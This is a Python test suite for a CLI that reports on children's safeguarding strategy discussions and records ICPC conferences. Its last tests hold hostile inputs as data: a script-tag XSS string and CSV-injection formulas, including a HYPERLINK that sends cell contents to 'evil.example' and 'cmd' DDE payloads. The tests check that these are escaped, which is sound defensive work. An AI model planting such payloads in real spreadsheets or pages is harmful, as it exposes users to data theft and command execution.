"""`strat report`: figures a partnership board can trust, built from stores with known answers,
and `strat icpc`, which records the conference those figures count."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from strat_cli.agenda import get_agenda
from strat_cli.model import (
    LONDON,
    Action,
    ActionStatus,
    AgencyKind,
    Attendance,
    Authorisation,
    Child,
    CirculationEntry,
    Decision,
    Meeting,
    Outcome,
    Participant,
    PartnerGap,
    Status,
)
from strat_cli.report import Report, Share, Source, Table, build_report, csv_files, shown
from strat_cli.report_page import page
from strat_cli.samples import large, typical
from strat_cli.store import FolderStore

from .conftest import app

runner = CliRunner()
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=LONDON)
WINDOW: dict[str, Any] = {"date_from": date(2026, 9, 1), "date_to": date(2026, 10, 31)}


def at(day: str, clock: str = "10:00") -> datetime:
    """UK time: 'YYYY-MM-DD' at `clock`, or 'YYYY-MM-DDTHH:MM'."""
    text = day if "T" in day else f"{day}T{clock}"
    return datetime.fromisoformat(text).replace(tzinfo=LONDON)


def discussion(
    ref: str,
    day: str,
    *,
    agenda: str = "national",
    status: Status = Status.ended,
    outcomes: tuple[Outcome, ...] = (Outcome.s17,),
    took_part: dict[AgencyKind, Attendance] | None = None,
    gaps: tuple[PartnerGap, ...] = (),
    actions: tuple[tuple[str, str, ActionStatus, str | None], ...] = (),
    concern: str | None = None,
    circulated: str | None = None,
    authorised: str | None = None,
    previous: tuple[str, ...] = (),
    s47_started: str | None = None,
    icpc_held: str | None = None,
    local_refs: tuple[str, ...] = (),
) -> Meeting:
    """A discussion with only what a figure needs; every name is fictional."""
    start = at(day)
    kinds = took_part or {
        AgencyKind.social_care: Attendance.in_person,
        AgencyKind.police: Attendance.remote,
        AgencyKind.health: Attendance.remote,
    }
    refs = local_refs or tuple(f"LR{ref[-4:]}{i}" for i in range(len(outcomes)))
    m = Meeting(
        id=ref,
        agenda=agenda,
        status=Status.ended if status == Status.authorised else status,
        started_at=start,
        ended_at=start + timedelta(hours=1),
        concern_identified_at=at(concern) if concern else None,
        chair="Robin Vale",
        previous=list(previous),
        type="follow-up" if previous else "initial",
        s47_started_at=at(s47_started) if s47_started else None,
        icpc_held_on=date.fromisoformat(icpc_held) if icpc_held else None,
        children=[
            Child(id=f"C{i + 1}", name=f"Pip Zephyrine{i}", local_ref=refs[i])
            for i in range(len(outcomes))
        ],
        participants=[
            Participant(
                id=f"P{i + 1}",
                name=f"Quill Ashdown{i}",
                email=f"p{i + 1}@agency.example",
                agency_kind=kind,
                attendance=mode,
            )
            for i, (kind, mode) in enumerate(kinds.items())
        ],
        partner_gaps=list(gaps),
        decisions=[
            Decision(id=f"D{i + 1}", child_id=f"C{i + 1}", outcome=o, rationale="Because.")
            for i, o in enumerate(outcomes)
        ],
        actions=[
            Action(
                id=f"A{i + 1}",
                what="Visit Pip Zephyrine at home",
                owner="Quill Ashdown0",
                agency=agency,
                due=at(due),
                status=state,
                completed_at=at(done) if done else None,
            )
            for i, (agency, due, state, done) in enumerate(actions)
        ],
    )
    if circulated:
        everyone = [p.email for p in m.participants]  # circulated means everyone has it
        m.circulation.append(
            CirculationEntry(
                at=at(*circulated.split()), method="smtp", recipients=everyone, delivered=everyone
            )
        )
    if status == Status.authorised:
        m.authorisation = Authorisation(
            by="Sol Marchetti", role="Team Manager", at=at(*(authorised or day).split())
        )
    return m


def sources(*meetings: Meeting) -> list[Source]:
    return [Source(m.id, meeting=m, agenda=get_agenda(m.agenda)) for m in meetings]


def report_of(*meetings: Meeting, **kw: Any) -> Report:
    return build_report(sources(*meetings), now=NOW, **{**WINDOW, **kw})


def row(report: Report, table: str, label: str) -> list[Any]:
    return next(r for r in report.table(table).rows if r[0] == label)


# --- what is counted ---------------------------------------------------------------------------


def test_only_ended_discussions_in_the_window_are_counted_and_drafts_are_named_as_left_out() -> (
    None
):
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02"),
        discussion("SD-2026-0002", "2026-10-31"),
        discussion("SD-2026-0003", "2026-11-01"),  # after the window
        discussion("SD-2026-0004", "2026-08-31"),  # before it
        discussion("SD-2026-0005", "2026-09-10", status=Status.draft),
    )
    assert r.included == 2
    assert [(x.ref, x.why) for x in r.left_out] == [
        ("SD-2026-0005", "draft: the discussion has not ended")
    ]
    assert r.table("volume").rows == [
        ["2026-09", 1, Share(0, 1), 1, Share(0, 1)],
        ["2026-10", 1, Share(0, 1), 1, Share(0, 1)],
    ]


def test_the_agenda_filter_counts_only_that_area() -> None:
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02", agenda="salford"),
        discussion("SD-2026-0002", "2026-09-03"),
        agenda="salford",
    )
    assert r.included == 1


def test_a_record_whose_agenda_is_missing_is_left_out_and_said_so() -> None:
    r = build_report(
        [Source("SD-2026-0009", problem="its agenda 'gone' cannot be found or read")],
        now=NOW,
        **WINDOW,
    )
    assert r.included == 0
    assert r.left_out[0].why == "its agenda 'gone' cannot be found or read"


def test_outcomes_are_counted_per_child_with_the_month_as_denominator() -> None:
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02", outcomes=(Outcome.s47_joint, Outcome.s17)),
        discussion("SD-2026-0002", "2026-09-20", outcomes=(Outcome.nfa,)),
        discussion("SD-2026-0003", "2026-10-05", outcomes=(Outcome.s47_single,)),
    )
    columns = r.table("outcomes").columns
    sept = dict(zip(columns, row(r, "outcomes", "2026-09"), strict=True))
    assert sept["Decisions"] == 3
    assert sept["s47 joint with police"] == Share(1, 3)
    assert sept["no further action"] == Share(1, 3)
    assert sept["early help"] == Share(0, 3)
    everything = dict(zip(columns, row(r, "outcomes", "All"), strict=True))
    assert everything["Decisions"] == 4
    assert everything["s47 single-agency"] == Share(1, 4)
    assert row(r, "volume", "2026-09")[4] == Share(1, 2)  # one of two discussions decided s47


# --- timeliness ----------------------------------------------------------------------------------


def test_timeliness_against_the_areas_own_timescales() -> None:
    r = report_of(
        # held 20 h after the concern (national: 24 h), circulated the same day, on time
        discussion(
            "SD-2026-0001", "2026-09-02", concern="2026-09-01T14:00", circulated="2026-09-02 10:30"
        ),
        # held 2 days after the concern; circulated two working days later: late, summary late
        discussion(
            "SD-2026-0002", "2026-09-09", concern="2026-09-07T09:00", circulated="2026-09-11 09:00"
        ),
        # a follow-up (no discussion timescale); never circulated
        discussion("SD-2026-0003", "2026-09-15", previous=("SD-2026-0001",)),
        # Devon: minutes authorised within 24 hours; authorised the next day at 09:00 (on time)
        discussion(
            "SD-2026-0004",
            "2026-09-16",
            agenda="devon-mash",
            status=Status.authorised,
            authorised="2026-09-17 09:00",
            circulated="2026-09-16 11:30",
        ),
    )
    t = {x[0]: x for x in r.table("timeliness").rows}
    held = t["Discussion held within the area's timescale of the concern"]
    assert held[1:] == [2, Share(1, 2), Share(1, 2), Share(0, 2)]
    summary = t["Action summary sent within the area's timescale"]
    assert summary[1:] == [4, Share(2, 4), Share(1, 4), Share(1, 4)]
    circulated = t["Record circulated within the area's working days"]
    assert circulated[1:] == [4, Share(2, 4), Share(1, 4), Share(1, 4)]
    minutes = t["Minutes authorised within the area's hours"]
    assert minutes[1:] == [1, Share(1, 1), Share(0, 1), Share(0, 1)]


# --- the ICPC, as the Children in Need statistics count it ------------------------------------------


def test_icpc_working_days_in_the_national_bands_with_quartiles() -> None:
    # s47 started Wed 2 Sep 2026; conferences after 8, 15, 16 and 25 working days
    held = ("2026-09-14", "2026-09-23", "2026-09-24", "2026-10-07")
    meetings = [
        discussion(
            f"SD-2026-000{i + 1}",
            "2026-09-02",
            outcomes=(Outcome.s47_joint,),
            icpc_held=day,
        )
        for i, day in enumerate(held)
    ]
    # one conference dated before its s47 start is left out of the durations
    meetings.append(
        discussion(
            "SD-2026-0009",
            "2026-09-02",
            outcomes=(Outcome.s47_single,),
            s47_started="2026-09-10",
            icpc_held="2026-09-08",
            previous=("SD-2026-0001",),
        )
    )
    r = report_of(*meetings)
    bands = {x[0]: x[1] for x in r.table("icpc").rows}
    assert bands["0-10"] == Share(1, 4)
    assert bands["11-15"] == Share(1, 4)
    assert bands["16-20"] == Share(1, 4)
    assert bands["21+"] == Share(1, 4)
    assert bands["Within 15 working days of the s47 start"] == Share(2, 4)
    # inclusive quartiles of 8, 15, 16, 25
    assert bands["25th percentile"] == 13.25
    assert bands["Median"] == 15.5
    assert bands["75th percentile"] == 18.25
    assert row(r, "icpc", "Median")[2] == 14  # England 2025 beside it
    # four discussions started s47 (the fifth continued one), four conferences counted
    assert bands["Conferences per s47 enquiry started here"] == Share(4, 4)
    assert "(1)" in r.table("icpc").note


def test_icpc_days_skip_the_areas_bank_holidays() -> None:
    # s47 on Thu 24 Dec 2026; conference Mon 4 Jan 2027: 25, 28 Dec (substitute) and 1 Jan
    # are bank holidays in England, so 29, 30, 31 Dec and 4 Jan: 4 working days
    r = report_of(
        discussion(
            "SD-2026-0001", "2026-12-24", outcomes=(Outcome.s47_joint,), icpc_held="2027-01-04"
        ),
        date_from=date(2026, 12, 1),
        date_to=date(2026, 12, 31),
    )
    assert row(r, "icpc", "Median")[1] == 4.0


# --- partners, escalations, actions, gaps, repeats ------------------------------------------


def test_partner_participation_by_agency_and_best_mode() -> None:
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02"),
        discussion(
            "SD-2026-0002",
            "2026-09-03",
            took_part={
                AgencyKind.social_care: Attendance.in_person,
                AgencyKind.police: Attendance.apologies,
                AgencyKind.health: Attendance.report_sent,
            },
            gaps=(
                PartnerGap(agency_kind=AgencyKind.police, escalated=True, escalation="DI"),
                PartnerGap(agency_kind=AgencyKind.health, reason="Nurse on leave"),
            ),
        ),
        discussion(
            "SD-2026-0003",
            "2026-09-04",
            took_part={AgencyKind.social_care: Attendance.in_person},
        ),
    )
    cols = r.table("partners").columns
    police = dict(zip(cols, row(r, "partners", "police"), strict=True))
    assert police["Discussions"] == 3
    assert police["Took part"] == Share(1, 3)
    assert police["phone/video"] == Share(1, 3)
    assert police["apologies"] == Share(1, 3)
    assert police["nobody invited"] == Share(1, 3)
    health = dict(zip(cols, row(r, "partners", "health"), strict=True))
    assert health["report sent"] == Share(1, 3)
    esc = {x[0]: x[1:] for x in r.table("escalations").rows}
    assert esc["police"] == [2, Share(1, 2), Share(0, 2), Share(1, 2)]
    assert esc["health"] == [2, Share(0, 2), Share(1, 2), Share(1, 2)]


def test_actions_by_agency_on_time_late_overdue_and_open() -> None:
    done, late_done = ActionStatus.done, ActionStatus.done
    r = report_of(
        discussion(
            "SD-2026-0001",
            "2026-09-02",
            actions=(
                ("Northshire Police", "2026-09-03T17:00", done, "2026-09-03T12:00"),
                ("Northshire Police", "2026-09-03T17:00", late_done, "2026-09-04T12:00"),
                ("Northshire Police", "2026-09-05T17:00", ActionStatus.open, None),
                ("Northshire CSC", "2026-12-05T17:00", ActionStatus.open, None),
                ("Northshire CSC", "2026-09-05T17:00", ActionStatus.cancelled, None),
                ("", "2026-09-05T17:00", ActionStatus.open, None),
            ),
        )
    )
    cols = r.table("actions").columns
    police = dict(zip(cols, row(r, "actions", "Northshire Police"), strict=True))
    assert police["Actions"] == 3
    assert police["done on time"] == Share(1, 3)
    assert police["done late"] == Share(1, 3)
    assert police["overdue"] == Share(1, 3)
    csc = dict(zip(cols, row(r, "actions", "Northshire CSC"), strict=True))
    assert csc["open, not yet due"] == Share(1, 2)
    assert csc["carried or cancelled"] == Share(1, 2)
    assert row(r, "actions", "agency not recorded")[1] == 1
    assert row(r, "actions", "All agencies")[1] == 6


def test_the_checks_most_frequent_gaps_count_each_discussion_once() -> None:
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02"),
        discussion("SD-2026-0002", "2026-09-03"),
    )
    gaps = {x[0]: x for x in r.table("gaps").rows}
    assert gaps, "two bare discussions have gaps"
    for code, (_, severity, _seed, share) in gaps.items():
        assert severity in ("error", "warning")
        assert isinstance(share, Share) and share.of == 2 and 1 <= share.count <= 2, code
    assert gaps["circulation.late"][3] == Share(2, 2)  # neither was ever circulated


def test_a_record_whose_deadlines_cannot_be_counted_is_counted_but_timed_nowhere() -> None:
    """A placeholder date saved before entry was checked (31/12/9999) makes that record's
    deadlines uncountable: the report still counts it, times it nowhere and checks it not."""
    bad = discussion("SD-2026-0002", "2026-09-03", circulated="2026-09-03 11:00")
    bad.concern_identified_at = datetime(9999, 12, 31, 10, 0, tzinfo=LONDON)
    r = report_of(discussion("SD-2026-0001", "2026-09-02", circulated="2026-09-02 11:00"), bad)
    assert r.included == 2
    circulated = row(r, "timeliness", "Record circulated within the area's working days")
    assert circulated[1:] == [1, Share(1, 1), Share(0, 1), Share(0, 1)]
    assert all(isinstance(share, Share) and share.of == 1 for *_, share in r.table("gaps").rows)


def test_an_area_whose_rule_overrides_name_no_rule_is_counted_but_not_checked() -> None:
    """`strat check` refuses such an agenda (rulebook.rules_for); the report still counts its
    discussions, and leaves them out of the check's figures only."""
    from strat_cli.agenda import RuleOverride
    from strat_cli.report import facts_of

    agenda = get_agenda("national").model_copy(deep=True)
    agenda.rules.overrides = {"no.such.rule": RuleOverride(enabled=False)}
    m = discussion("SD-2026-0001", "2026-09-02")
    facts = facts_of(m, agenda, NOW)
    assert not facts.checked and facts.gaps == []
    assert facts.timely  # timed all the same


def test_repeat_discussions_follow_the_chain_and_the_childs_reference() -> None:
    r = report_of(
        discussion("SD-2026-0001", "2026-09-02", local_refs=("LR1",)),
        discussion("SD-2026-0002", "2026-09-09", previous=("SD-2026-0001",), local_refs=("LR1",)),
        discussion(
            "SD-2026-0003",
            "2026-09-16",
            previous=("SD-2026-0001", "SD-2026-0002"),
            local_refs=("LR1",),
        ),
        discussion("SD-2026-0004", "2026-09-20", local_refs=("LR2",)),
        discussion("SD-2026-0005", "2026-10-20", local_refs=("LR2",)),  # a new case, same child
    )
    rep = {x[0]: x[1] for x in r.table("repeats").rows}
    assert rep["1"] == Share(2, 3)
    assert rep["3"] == Share(1, 3)
    assert rep["Children discussed in more than one case"] == Share(1, 2)


# --- small numbers ------------------------------------------------------------------------------


def test_small_counts_are_suppressed_everywhere_with_their_percentages() -> None:
    assert shown(Share(3, 40), 5) == "<5"
    assert shown(Share(30, 40), 5) == Share(30, 40)
    assert shown(Share(3, 4), 5) == "<5"  # a small denominator gives the count away
    assert shown(0, 5) == 0 and shown(4, 5) == "<5" and shown(5, 5) == 5
    r = report_of(discussion("SD-2026-0001", "2026-09-02"))
    r.suppress_below = 5
    files = csv_files(r)
    text = "".join(files.values())
    assert "<5" in text
    volume = list(csv.reader(io.StringIO(files["01-volume.csv"])))
    assert volume[1][:2] == ["2026-09", "<5"]
    html_page = page(r)
    assert "&lt;5" in html_page
    assert ">1 of 1" not in html_page


# --- the outputs ----------------------------------------------------------------------------------


class _Page(HTMLParser):
    """Checks the page is well formed and collects what a reader of each chart gets."""

    VOID = frozenset({"meta", "br", "img", "hr", "link", "input", "path", "use", "rect", "line"})

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.svgs: list[dict[str, str]] = []
        self.titles: list[str] = []
        self.in_svg_title = False
        self.external: list[str] = []
        self.lang = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "html":
            self.lang = a.get("lang", "")
        if tag == "svg" and "svg" not in self.stack:
            self.svgs.append(a)
        if tag == "title" and self.stack and self.stack[-1] == "svg":
            self.in_svg_title = True
        for key in ("src", "href"):
            if a.get(key, "").startswith(("http", "//")):
                self.external.append(a[key])
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for key, value in attrs:
            if key in ("src", "href") and (value or "").startswith(("http", "//")):
                self.external.append(value or "")

    def handle_endtag(self, tag: str) -> None:
        if tag in self.VOID:
            return
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes <{self.stack[-1:]}>"
        self.stack.pop()
        self.in_svg_title = False

    def handle_data(self, data: str) -> None:
        if self.in_svg_title:
            self.titles.append(data)


def _mixed_store(store: FolderStore) -> None:
    for m in (
        typical("SD-2026-0001"),
        large("SD-2026-0002"),
        discussion("SD-2026-0003", "2026-11-02", outcomes=(Outcome.s47_joint,)),
        discussion("SD-2026-0004", "2026-11-03", status=Status.draft),
    ):
        store.save(m)


def test_the_html_report_parses_needs_no_network_and_every_chart_has_a_title_and_alt_text(
    store: FolderStore, tmp_path: Path
) -> None:
    _mixed_store(store)
    out = tmp_path / "out" / "report.html"
    result = runner.invoke(
        app, ["report", "--from", "01/11/2026", "--to", "30/11/2026", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    parser = _Page()
    parser.feed(text)
    parser.close()
    assert parser.stack == []
    assert parser.lang == "en-GB"
    assert parser.external == []
    assert len(parser.svgs) >= 5
    for svg in parser.svgs:
        assert svg.get("role") == "img" and len(svg.get("aria-label", "")) > 20
    assert len(parser.titles) == len(parser.svgs)
    assert "SD-2026-0004" in text and "draft" in text  # the draft is named as left out
    assert "1 record(s) left out" in result.output


def test_no_name_from_any_record_appears_in_the_report_csv_or_json(
    store: FolderStore, tmp_path: Path
) -> None:
    _mixed_store(store)
    names: set[str] = set()
    for ref in store.ids():
        m = store.load(ref)
        names.update(c.name for c in m.children)
        names.update(a.name for a in m.adults)
        names.update(p.name for p in m.participants)
        names.update(x for x in (m.chair, m.minute_taker) if x)
    names = {n for n in names if len(n) > 3}
    assert len(names) > 20
    window = ["--from", "01/11/2026", "--to", "30/11/2026"]
    out, csv_dir = tmp_path / "r.html", tmp_path / "csv"
    result = runner.invoke(app, ["report", *window, "--out", str(out), "--csv", str(csv_dir)])
    assert result.exit_code == 0, result.output
    as_json = runner.invoke(app, ["report", *window, "--json"])
    assert as_json.exit_code == 0
    outputs = [out.read_text(encoding="utf-8"), as_json.stdout, result.output]
    outputs += [p.read_text(encoding="utf-8-sig") for p in sorted(csv_dir.iterdir())]
    assert len(outputs) == 3 + 9
    for text in outputs:
        for name in names:
            assert name not in text
            for part in name.split():
                if len(part) > 4 and part[0].isupper():
                    assert part not in text, part


def test_json_and_csv_carry_the_same_figures(store: FolderStore, tmp_path: Path) -> None:
    _mixed_store(store)
    window = ["--from", "01/11/2026", "--to", "30/11/2026"]
    data = json.loads(runner.invoke(app, ["report", *window, "--json"]).stdout)
    assert data["included"] == 3
    assert data["left_out"] == [
        {"ref": "SD-2026-0004", "why": "draft: the discussion has not ended"}
    ]
    runner.invoke(app, ["report", *window, "--csv", str(tmp_path / "c")])
    rows = list(csv.reader(io.StringIO((tmp_path / "c" / "01-volume.csv").read_text("utf-8-sig"))))
    assert rows[0] == [
        "Month",
        "Discussions",
        "of which follow-ups",
        "of which follow-ups (%)",
        "Children discussed",
        "Deciding s47",
        "Deciding s47 (%)",
    ]
    assert rows[1][:2] == ["2026-11", str(data["tables"]["volume"]["rows"][0][1])]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--from", "31/02/2026", "--to", "01/03/2026", "--json"], "--from: not a date"),
        (["--from", "01/03/2026", "--to", "01/02/2026", "--json"], "--to is before --from"),
        (["--from", "01/03/2026", "--to", "01/04/2026"], "say where the report goes"),
    ],
)
def test_bad_report_options_are_one_line(args: list[str], message: str) -> None:
    result = runner.invoke(app, ["report", *args])
    assert result.exit_code != 0
    assert message in result.output
    assert "Traceback" not in result.output


# --- strat icpc ---------------------------------------------------------------------------------


def _s47_saved(store: FolderStore) -> Meeting:
    m = typical()  # decides s47 on 19/11/2026 (national: 15 working days from that discussion)
    store.save(m)
    return m


def test_recording_the_conference_is_audited_and_due_stops_listing_the_target(
    store: FolderStore,
) -> None:
    _s47_saved(store)
    due = json.loads(runner.invoke(app, ["due", "--within", "30", "--json"]).output)
    assert any(r["deadline"] == "ICPC target" for r in due)
    result = runner.invoke(app, ["icpc", "SD-2026-0001", "--held", "26/11/2026"])
    assert result.exit_code == 0, result.output
    m = store.load("SD-2026-0001")
    assert m.icpc_held_on == date(2026, 11, 26)
    assert m.audit[-1].event == "conference recorded"
    due = json.loads(runner.invoke(app, ["due", "--within", "30", "--json"]).output)
    assert not any(r["deadline"] == "ICPC target" for r in due)


def test_a_conference_can_be_recorded_on_an_authorised_record(store: FolderStore) -> None:
    m = typical()
    m.authorisation = Authorisation(by="Sol Marchetti", role="Team Manager", at=at("2026-11-20"))
    store.save(m)
    result = runner.invoke(app, ["icpc", "SD-2026-0001", "--held", "24/11/2026"])
    assert result.exit_code == 0, result.output
    assert store.load("SD-2026-0001").icpc_held_on == date(2026, 11, 24)


def test_a_late_conference_is_flagged_by_the_check(store: FolderStore) -> None:
    m = discussion("SD-2026-0001", "2026-09-02", outcomes=(Outcome.s47_joint,))
    store.save(m)
    result = runner.invoke(app, ["icpc", "SD-2026-0001", "--held", "12/10/2026"])
    assert result.exit_code == 0
    assert "after its target of" in result.output
    check = json.loads(runner.invoke(app, ["check", "SD-2026-0001", "--json"]).output)
    assert "icpc.late" in {g["code"] for g in check["gaps"]}


@pytest.mark.parametrize(
    ("held", "message"),
    [
        ("01/01/2099", "in the future"),
        ("01/11/2026", "before the s47 enquiry started"),
        ("yesterday", "--held: not a date"),
    ],
)
def test_an_impossible_conference_date_is_refused_in_one_line(
    store: FolderStore, held: str, message: str
) -> None:
    _s47_saved(store)
    result = runner.invoke(app, ["icpc", "SD-2026-0001", "--held", held])
    assert result.exit_code != 0
    assert message in result.output
    assert store.load("SD-2026-0001").icpc_held_on is None


def test_no_conference_without_an_s47_enquiry(store: FolderStore) -> None:
    store.save(discussion("SD-2026-0001", "2026-09-02", outcomes=(Outcome.nfa,)))
    result = runner.invoke(app, ["icpc", "SD-2026-0001", "--held", "10/09/2026"])
    assert result.exit_code != 0
    assert "has no ICPC target" in result.output


# --- the kept facts -------------------------------------------------------------------------------


def _whole_period(data: dict[str, Any]) -> dict[str, Any]:
    """The outcomes table's last row (the whole period) from --json, by column."""
    table = data["tables"]["outcomes"]
    return dict(zip(table["columns"], table["rows"][-1], strict=True))


def _window() -> list[str]:
    return ["report", "--from", "01/09/2026", "--to", "31/10/2026", "--json"]


@pytest.mark.folder_only(reason="the facts kept in the SQLite index")
def test_a_second_report_reads_kept_facts_and_a_changed_record_is_read_again(
    store: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.save(discussion("SD-2026-0001", "2026-09-02", outcomes=(Outcome.s17,)))
    store.save(discussion("SD-2026-0002", "2026-09-03", outcomes=(Outcome.nfa,)))
    first = json.loads(runner.invoke(app, _window()).stdout)
    loaded: list[str] = []
    real_load = FolderStore.load

    def counting_load(self: FolderStore, meeting_id: str) -> Meeting:
        loaded.append(meeting_id)
        return real_load(self, meeting_id)

    monkeypatch.setattr(FolderStore, "load", counting_load)
    again = json.loads(runner.invoke(app, _window()).stdout)
    assert loaded == []  # every figure came from the kept facts
    assert again["tables"] == first["tables"]
    changed = store.load("SD-2026-0002")
    changed.decisions[0].outcome = Outcome.early_help
    store.save(changed)
    loaded.clear()
    third = json.loads(runner.invoke(app, _window()).stdout)
    assert set(loaded) == {"SD-2026-0002"}
    everything = _whole_period(third)
    assert everything["early help"]["count"] == 1
    assert everything["no further action"]["count"] == 0


def test_kept_facts_are_made_again_once_a_deadline_has_passed() -> None:
    m = discussion("SD-2026-0001", "2026-09-02")
    early = datetime(2026, 9, 2, 11, 30, tzinfo=LONDON)  # before the circulation deadline
    f = build_report(sources(m), now=early, **WINDOW)
    assert f.table("gaps").rows == [] or all(
        r[0] != "circulation.late" for r in f.table("gaps").rows
    )
    from strat_cli.report import facts_of

    facts = facts_of(m, get_agenda("national"), early)
    assert facts.valid_until is not None and facts.valid_until > early.timestamp()
    later = facts_of(m, get_agenda("national"), NOW)
    assert ("circulation.late", "error", "") in later.gaps
    assert later.valid_until is None or later.valid_until > NOW.timestamp()


def test_a_report_from_a_read_only_index_still_answers(
    store: FolderStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    from strat_cli.index import Index

    store.save(discussion("SD-2026-0001", "2026-09-02"))
    store.save(discussion("SD-2026-0002", "2026-09-03"))
    runner.invoke(app, _window())  # the index and its kept facts exist
    store.save(discussion("SD-2026-0002", "2026-09-03", outcomes=(Outcome.nfa,)))
    runner.invoke(app, ["list"])  # the index knows of the change; the facts are stale

    def read_only(self: Index) -> sqlite3.Connection:
        conn = sqlite3.connect(f"file:{self.path}?mode=ro", uri=True, isolation_level=None)
        conn.row_factory = sqlite3.Row
        return conn

    monkeypatch.setattr(Index, "connect", read_only)
    result = runner.invoke(app, _window())
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["included"] == 2
    everything = _whole_period(data)
    assert everything["no further action"]["count"] == 1


def test_a_record_that_reached_only_some_is_not_counted_as_circulated() -> None:
    m = discussion("SD-2026-0001", "2026-09-02", circulated="2026-09-02 11:30")
    m.circulation[0].delivered = m.circulation[0].delivered[:1]  # one of three has it
    r = report_of(m)
    t = {x[0]: x for x in r.table("timeliness").rows}
    assert t["Record circulated within the area's working days"][1:] == [
        1,
        Share(0, 1),
        Share(0, 1),
        Share(1, 1),
    ]
    assert t["Action summary sent within the area's timescale"][2] == Share(1, 1)


HOSTILE_AGENCIES = (
    "<script>alert(1)</script> & Co",
    "$$",
    "$\\frac{$",
    "[/] [red]Police",
    "Nul\x00l and \x1b[31mred",
    "Quote \" and ' apostrophe",
    "\u202eRTL override",
    "x" * 300,
)


def test_hostile_agency_text_is_printed_as_text_in_every_output(
    store: FolderStore, tmp_path: Path
) -> None:
    actions = tuple(("-", "2026-09-03T17:00", ActionStatus.open, None) for _ in HOSTILE_AGENCIES)
    m = discussion("SD-2026-0001", "2026-09-02", actions=actions)
    for action, agency in zip(m.actions, HOSTILE_AGENCIES, strict=True):
        action.agency = agency  # kept as typed before control characters were refused at entry
    store.save(m)
    window = ["report", "--from", "01/09/2026", "--to", "30/09/2026"]
    out, csv_dir = tmp_path / "r.html", tmp_path / "csv"
    result = runner.invoke(app, [*window, "--out", str(out), "--csv", str(csv_dir)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "<script>" not in text and "&lt;script&gt;" in text
    assert "\x00" not in text and "\x1b" not in text
    parser = _Page()
    parser.feed(text)
    parser.close()
    assert parser.stack == []
    rows = list(csv.reader(io.StringIO((csv_dir / "07-actions.csv").read_text("utf-8-sig"))))
    assert "$$" in {r[0] for r in rows}
    data = json.loads(runner.invoke(app, [*window, "--json"]).stdout)
    agencies = {r[0] for r in data["tables"]["actions"]["rows"]}
    assert "<script>alert(1)</script> & Co" in agencies


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\r=CR first",
    "\x00\x1b[2J=after controls",
)


def test_no_csv_cell_starts_a_formula_or_holds_a_control_character(
    store: FolderStore, tmp_path: Path
) -> None:
    """OWASP's CSV injection: an agency typed as a formula is shown as text in a spreadsheet,
    never run; the counts beside it stay numbers."""
    placeholders = [f"Agency {n}" for n in range(len(FORMULAS))]
    actions = tuple((a, "2026-09-03T17:00", ActionStatus.open, None) for a in placeholders)
    m = discussion("SD-2026-0001", "2026-09-02", actions=actions)
    for action, typed in zip(m.actions, FORMULAS, strict=True):
        action.agency = typed  # as an older strat kept it: entry now refuses the controls
    store.save(m)
    csv_dir = tmp_path / "csv"
    window = ["report", "--from", "01/09/2026", "--to", "30/09/2026", "--csv", str(csv_dir)]
    result = runner.invoke(app, window)
    assert result.exit_code == 0, result.output
    text = (csv_dir / "07-actions.csv").read_text("utf-8-sig")
    assert not any(c in text.replace("\r\n", "") for c in "\x00\x1b\r")
    rows = list(csv.reader(io.StringIO(text)))
    agencies = [r[0] for r in rows[1:-1]]  # the last row is the total
    assert len(agencies) == len(FORMULAS)
    assert all(not a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in agencies)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in agencies
    assert "'@SUM(1+1)" in agencies and "'=CR first" in agencies
    # controls left out, the rest kept as typed (the server store keeps NUL as U+FFFD)
    assert "[2J=after controls" in {a.lstrip("\ufffd") for a in agencies}
    assert all(r[1] == "1" for r in rows[1:-1])  # each agency's count is a number


def test_negative_numbers_stay_numbers_in_csv() -> None:
    """Only text gets the `'`: a negative count or median is a number a spreadsheet sums."""
    table = Table("t", "T", ["Label", "Days", "Median", "Note"], [["-1 day", -3, -1.5, "\tx"]])
    made = datetime(2026, 11, 1, tzinfo=LONDON)
    r = Report(date(2026, 9, 1), date(2026, 9, 30), None, made, 1, [], [table])
    rows = list(csv.reader(io.StringIO(csv_files(r)["01-t.csv"])))
    assert rows[1] == ["'-1 day", "-3", "-1.5", "'\tx"]


@pytest.mark.skipif(os.name != "posix", reason="folder modes are POSIX")
def test_every_folder_the_report_makes_is_private(store: FolderStore, tmp_path: Path) -> None:
    """The report holds figures about children: each folder strat makes for it is 0700, the
    missing parents too (mkdir's parents=True made those with the umask's rights)."""
    _mixed_store(store)
    out = tmp_path / "shared" / "reports" / "november" / "report.html"
    (tmp_path / "shared").mkdir(mode=0o755)
    os.chmod(tmp_path / "shared", 0o755)  # not strat's: left as it is
    old = os.umask(0o022)
    try:
        result = runner.invoke(
            app, ["report", "--from", "01/11/2026", "--to", "30/11/2026", "--out", str(out)]
        )
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert oct(stat.S_IMODE((tmp_path / "shared" / "reports").stat().st_mode)) == oct(0o700)
    assert oct(stat.S_IMODE(out.parent.stat().st_mode)) == oct(0o700)
